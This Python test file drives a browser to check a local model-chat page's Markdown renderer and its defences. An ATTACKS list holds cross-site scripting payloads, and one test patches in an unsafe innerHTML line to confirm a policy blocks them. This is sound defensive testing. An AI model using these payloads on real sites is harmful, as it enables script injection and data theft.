"""What the page makes of a model's text, in a real browser: Markdown as elements, and never a script of somebody else's."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from browsing import Tab, events
from pyggml_server import page as files
from serving import Client

EXAMPLES = {
    "paragraphs and line ends": ("a\nb\n\nc", "<p>a<br>b</p><p>c</p>"),
    "emphasis": ("*a* **b** ***c*** _d_ __e__ ~~f~~ 2 * 3 * 4 a_b_c", "<p><em>a</em> <strong>b</strong> <em><strong>c</strong></em> <em>d</em> <strong>e</strong> <del>f</del> 2 * 3 * 4 a_b_c</p>"),
    "emphasis within emphasis": ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
    "emphasis without an end": ("**a *b", "<p>**a *b</p>"),
    "code": ("`a` ``b`c`` `<b>` `x", "<p><code>a</code> <code>b`c</code> <code>&lt;b&gt;</code> `x</p>"),
    "escapes": (r"\*a\* \# \\ &amp; &lt;b&gt; & &x;", r"<p>*a* # \ &amp; &lt;b&gt; &amp; &amp;x;</p>"),
    "formulas": (r"\(a_1*b\) $$x*y$$ $5 and $6", r'<p><code class="formula">\(a_1*b\)</code> <code class="formula">$$x*y$$</code> $5 and $6</p>'),
    "headings": ("# a\n### b ##\n#c", '<h3 class="level1">a</h3><h5 class="level3">b</h5><p>#c</p>'),
    "rules": ("a\n---\nb\n***", "<p>a</p><hr><p>b</p><hr>"),
    "quotations": ("> a\n> > b\n\nc", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>"),
    "tight list": ("- a\n- b\n  - c\n- d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"),
    "numbered list": ("3. a\n4. b\n\n   c", '<ol start="3"><li><p>a</p></li><li><p>b</p><p>c</p></li></ol>'),
    "list indented by two": ("1. a\n  - b\n2. c", '<ol start="1"><li>a<ul><li>b</li></ul></li><li>c</li></ol>'),
    "list with code": ("- a\n  ```\n  x\n  ```\n- b", None),
    "list behind a paragraph": ("a:\n- b", "<p>a:</p><ul><li>b</li></ul>"),
    "table": ("|a|b|\n|-|:-:|\n|`x|y`|\\||\n|c|", None),
    "no table": ("a | b\nc | d", "<p>a | b<br>c | d</p>"),
    "HTML": ("<b>a</b>\n<!-- x --> <script>y</script>", "<p>&lt;b&gt;a&lt;/b&gt;<br>&lt;!-- x --&gt; &lt;script&gt;y&lt;/script&gt;</p>"),
    "br": ("a<br>b<br/>c", "<p>a<br>b<br>c</p>"),
    "empty": ("\n \n", ""),
}  # fmt: skip
LINKS = {
    "[a](https://b.example/c_d?e=1&f)": ("a", "https://b.example/c_d?e=1&f"),
    "[a *b*](<https://b.example/c d> \"t\")": ("a b", "https://b.example/c%20d"),
    "see https://b.example/x_(y), ok": ("https://b.example/x_(y)", "https://b.example/x_(y)"),
    "<https://b.example>": ("https://b.example", "https://b.example/"),
    "<a@b.example>": ("a@b.example", "mailto:a@b.example"),
    "[a](mailto:a@b.example)": ("a", "mailto:a@b.example"),
    "![a](http://b.example/c.png)": ("a", "http://b.example/c.png"),
    "[https://c.example](https://b.example)": ("https://c.example", "https://b.example/"),
}  # fmt: skip
ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg/onload=window.hit=1><iframe srcdoc='<script>parent.hit=1</script>'>",
    "[a](javascript:window.hit=1)",
    "[a](JaVaScRiPt:window.hit=1) [b](java\tscript:window.hit=1) [c](&#106;avascript:window.hit=1)",
    "[a](data:text/html,<script>parent.hit=1</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x)",
    "<javascript:window.hit=1> <data:text/html,x>",
    "![a](javascript:window.hit=1) ![b](https://evil.example/pixel.png) ![c](//evil.example/x)",
    '[a](https://b.example/" onmouseover="window.hit=1) [b](https://b.example "x\\" onclick=\\"window.hit=1")',
    '```"><img src=x onerror=window.hit=1>\n</code></pre><script>window.hit=1</script>\n```',
    "`<img src=x onerror=window.hit=1>`",
    "| <img src=x onerror=window.hit=1> |\n|-|\n| <script>window.hit=1</script> |",
    "# <img src=x onerror=window.hit=1>\n- <img src=x onerror=window.hit=1>\n> <img src=x onerror=window.hit=1>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style>",
    "<form action=https://evil.example><input name=key><button>ok</button></form>",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1}",
]
ALLOWED = {
    "p", "br", "em", "strong", "del", "code", "pre", "figure", "figcaption", "span", "button", "svg", "use", "h3", "h4", "h5", "h6",
    "h1", "hr", "blockquote", "ul", "ol", "li", "input", "table", "thead", "tbody", "tr", "th", "td", "a", "div",
}  # fmt: skip
INSPECT = """
[...document.querySelectorAll("article .text *, article .reasoning div *, #history *, #title")].map((node) => ({
  tag: node.localName, attributes: [...node.attributes].map((a) => [a.name, a.value]), href: node.localName === "a" ? node.href : null,
}))
"""


@pytest.fixture
def tab(chromium: Any, client: Client) -> Iterator[Tab]:
    made = Tab(chromium, client.address).open()
    yield made
    made.close()
    made.check()


def html(tab: Tab, text: str) -> str:
    return str(
        tab.module(
            "markdown.js",
            "const box = document.createElement('div'); m.show(box, argument); return box.innerHTML;",
            text,
        )
    )


def test_markdown(tab: Tab) -> None:
    for name, (text, expected) in EXAMPLES.items():
        if expected is not None:
            assert html(tab, text) == expected, name


def test_tables_and_code(tab: Tab) -> None:
    shown = tab.module(
        "markdown.js",
        """
        const box = document.createElement("div");
        m.show(box, argument);
        const cells = [...box.querySelectorAll("tr")].map((row) => [...row.children].map((cell) => [cell.className, cell.textContent]));
        return { cells, code: [...box.querySelectorAll("pre code")].map((code) => code.textContent), items: box.querySelectorAll("li").length,
                 names: [...box.querySelectorAll("figcaption span")].map((name) => name.textContent) };
        """,
        "\n\n".join([EXAMPLES["table"][0], EXAMPLES["list with code"][0], "```py x\na\n\n b\n```", "~~~\n```\n~~~", "    indented\n\n    too", "```js\nnever ended"]),
    )  # fmt: skip
    assert shown["cells"] == [[["", "a"], ["center", "b"]], [["", "x|y"], ["center", "|"]], [["", "c"], ["center", ""]]]
    assert shown["code"] == ["x", "a\n\n b", "```", "indented\n\ntoo", "never ended"]
    assert (shown["items"], shown["names"]) == (2, ["text", "py", "text", "text", "js"])


def test_links_lead_out_and_tell_nobody(tab: Tab) -> None:
    for text, (label, address) in LINKS.items():
        found = tab.module(
            "markdown.js",
            "const box = document.createElement('div'); m.show(box, argument);"
            "return [...box.querySelectorAll('a')].map((a) => [a.textContent, a.href, a.rel, a.target]);",
            text,
        )
        assert found == [[label, address, "noopener noreferrer nofollow", "_blank"]], text


def test_a_text_that_grows_is_the_text_shown_at_once(tab: Tab) -> None:
    text = "\n\n".join(text for text, _ in EXAMPLES.values()) + "\n\n" + "\n\n".join([*LINKS, *ATTACKS])
    same, kept = tab.module(
        "markdown.js",
        """
        const grown = document.createElement("div"), whole = document.createElement("div");
        let first = null, kept = true;
        for (let i = 1; i <= argument.length; i += 3) {
          m.show(grown, argument.slice(0, i));
          if (i > 12) kept &&= (first ??= grown.firstChild) === grown.firstChild;
        }
        m.show(grown, argument);
        m.show(whole, argument);
        return [grown.innerHTML === whole.innerHTML, kept];
        """,
        text,
    )
    assert same and kept


PIECES = (
    "[", "![", "*a ", "*a b_ ", "**", "*_", "_a", "`", "``` ", "> ", "- ", "  - ", "](", "[a](", "[](<", "\\(", "$$", "<a:", "h", "|a", "&", " ", "#", "[h*_",
)  # fmt: skip


def test_the_time_for_a_text_grows_as_the_text(tab: Tab) -> None:
    """16 times the text: one step for each pair of pieces would be 256 times the time."""
    for piece in PIECES:
        short, long = tab.module(
            "markdown.js",
            """
            const time = (n) => {
              const start = performance.now();
              m.show(document.createElement("div"), argument.repeat(n / argument.length));
              return performance.now() - start;
            };
            time(8000);
            return [time(8000), time(16 * 8000)];
            """,
            piece,
        )
        assert long < 100 * short + 2000, (piece, short, long)


def attack(tab: Tab) -> list[str]:
    """What attacks have brought about: nothing, if all is well."""
    for text in ATTACKS:
        tab.answers(events(text, reasoning=text, size=len(text)))
        tab.page.click("#new")
        tab.send(text)
        tab.answered()
        tab.page.evaluate("document.querySelectorAll('details').forEach((one) => one.open = true)")
    tab.page.reload()  # and all over again, out of storage
    tab.expect(tab.find("#history li")).to_have_count(len(ATTACKS))
    found = []
    for i in range(len(ATTACKS)):
        tab.find("#history .title").nth(i).click()
        tab.expect(tab.find("#history li").nth(i)).to_have_class("current")
        for node in tab.page.evaluate(INSPECT):
            names = [name for name, _ in node["attributes"]]
            if node["tag"] not in ALLOWED or any(
                name.startswith("on") or name in ("src", "srcdoc", "action") for name in names
            ):
                found.append(f"element: {node}")
            if node["href"] is not None and node["href"].split(":")[0] not in ("http", "https", "mailto"):
                found.append(f"link: {node['href']}")
    if tab.page.evaluate("window.hit"):
        found.append("a script ran")
    found += [f"asked {url}" for url in tab.asked if not url.startswith(tab.address)]
    return [*found, *(f"said {text}" for text in tab.said)]


def test_texts_and_stored_conversations_that_attack(tab: Tab) -> None:
    assert attack(tab) == []


@pytest.mark.parametrize(
    ("name", "right", "wrong", "found"),
    [
        ("inline.js", "return SCHEMES.includes(url.protocol) ? url.href : null;", "return url.href;", "link"),
        ("markdown.js", "el(\"p\", {}, inline(text))", "Object.assign(el(\"p\"), { innerHTML: text })", "said"),
        ("thread.js", "this.text.textContent = message.content", "this.text.innerHTML = message.content", "said"),
    ],
)  # fmt: skip
def test_such_attacks_are_noticed(chromium: Any, client: Client, name: str, right: str, wrong: str, found: str) -> None:
    """A page with a hole; what would become HTML is stopped by the policy even so."""
    text = (files.FOLDER / name).read_text()
    assert text.count(right) == 1
    tab = Tab(chromium, client.address)
    tab.page.route(
        f"**/page/{name}", lambda route: route.fulfill(body=text.replace(right, wrong), content_type="text/javascript")
    )
    try:
        tab.open()
        tab.answers(events("[a](javascript:window.hit=1)\n\n<img src=x onerror='window.hit = 1'>"))
        tab.send("<img src=x onerror='window.hit = 1'>")
        tab.until(lambda: tab.said or tab.find("article a").count(), "the attack has got through")
        links = tab.page.evaluate("[...document.querySelectorAll('article a')].map((a) => a.protocol)")
        assert {"link": "javascript:" in links, "said": any("TrustedHTML" in one for one in tab.said)}[found]
        assert not tab.page.evaluate("window.hit")
    finally:
        tab.close()


def test_a_file_that_attacks_is_refused_or_shown_as_text(tab: Tab) -> None:
    message = {
        "id": "a1",
        "parent": None,
        "role": "assistant",
        "content": ATTACKS[0],
        "error": ATTACKS[1],
        "stats": {"model": ATTACKS[2]},
    }
    good = {"id": "c1", "title": ATTACKS[1], "messages": [message]}
    bad = [
        {**good, "id": "<b>"}, {**good, "messages": [message, message]}, {**good, "messages": [{**message, "role": "system"}]},
        {**good, "messages": [{**message, "parent": "a1"}]}, {**good, "messages": None}, None, 7,
    ]  # fmt: skip
    for i, one in enumerate(bad):
        take(tab, f"bad{i}.json", [one])
        tab.expect(tab.find("#notice")).to_have_text(f"bad{i}.json cannot be imported: a conversation in it is damaged")
    tab.expect(tab.find("#history li")).to_have_count(0)
    take(tab, "good.json", [good])
    tab.find("#history .title").click()
    tab.expect(tab.find("article .text")).to_have_text(ATTACKS[0])
    tab.expect(tab.find("article .error")).to_contain_text(ATTACKS[1])
    assert {node["tag"] for node in tab.page.evaluate(INSPECT)} <= ALLOWED
    assert not tab.page.evaluate("window.hit")


def take(tab: Tab, name: str, conversations: list[Any]) -> None:
    data = json.dumps({"format": "pyggml-conversations", "conversations": conversations}).encode()
    tab.find("#import-file").set_input_files({"name": name, "mimeType": "application/json", "buffer": data})
